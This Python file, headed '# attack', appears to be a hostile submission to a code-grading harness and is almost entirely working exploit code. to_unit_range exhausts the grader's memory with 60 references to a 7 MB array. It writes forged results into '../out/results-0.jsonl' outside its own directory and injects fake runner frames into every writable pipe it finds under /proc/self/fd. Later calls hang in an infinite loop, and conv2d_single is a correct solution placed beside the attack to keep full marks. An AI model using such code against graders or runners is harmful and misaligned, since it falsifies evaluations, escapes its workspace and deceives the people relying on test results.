# attack: one 7 MB .npy (under the 8 MB file limit) referenced 60 times in a result (the grader holds gigabytes)
import io
import json
import os

import numpy as np

REFS = 60
CALLS = []


def to_unit_range(image):
    CALLS.append(1)
    if len(CALLS) > 1:   # the later calls never return, so the forged lines below are the only ones
        while True:
            pass
    big = np.zeros(900_000)   # 7.2 MB: just under the 8 MB file-size limit
    tree = {"t": "list", "v": [{"t": "array", "file": "big.npy", "blob": 0}] * REFS}
    try:
        np.save("../out/big.npy", big)
        with open("../out/results-0.jsonl", "a") as handle:   # past where the runner writes its own lines
            handle.write("\n" * 65536 + "".join(json.dumps({"id": "c%d" % k, "result": tree}) + "\n"
                                                for k in range(1, 40)))
    except OSError:
        pass
    buffer = io.BytesIO()
    np.save(buffer, big)
    blob = buffer.getvalue()
    _send(b"R", json.dumps({"id": "c0", "result": tree, "blobs": [len(blob)]}).encode(), blob)
    return None


def _pipes():
    """Every pipe this process may write to (the runner's result channel among them)."""
    import stat
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            with open("/proc/self/fdinfo/%d" % fd) as info:
                flags = int(info.read().split("flags:")[1].split()[0], 8)
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and flags & 3 in (1, 2) and fd > 2:
                found.append(fd)
        except (OSError, ValueError, IndexError):
            pass
    return found


def _frame(kind, header, blob=b""):
    """A frame as the runner writes them: kind byte, header and blob lengths, JSON header, raw bytes."""
    import struct
    return kind + struct.pack(">IQ", len(header), len(blob)) + header + blob


def _send(kind, header, blob=b""):
    for fd in _pipes():
        try:
            os.write(fd, _frame(kind, header, blob))
        except OSError:
            pass


def conv2d_single(image, kernel):
    # a correct task beside the attack: it must still earn full marks
    from numpy.lib.stride_tricks import sliding_window_view
    if image.ndim != 2 or kernel.ndim != 2 or kernel.shape[0] > image.shape[0] or kernel.shape[1] > image.shape[1]:
        raise ValueError("bad shapes")
    return np.einsum("ijkl,kl->ij", sliding_window_view(image, kernel.shape), kernel)


def _right(image):
    return (np.asarray(image) / 255).astype(np.float32)
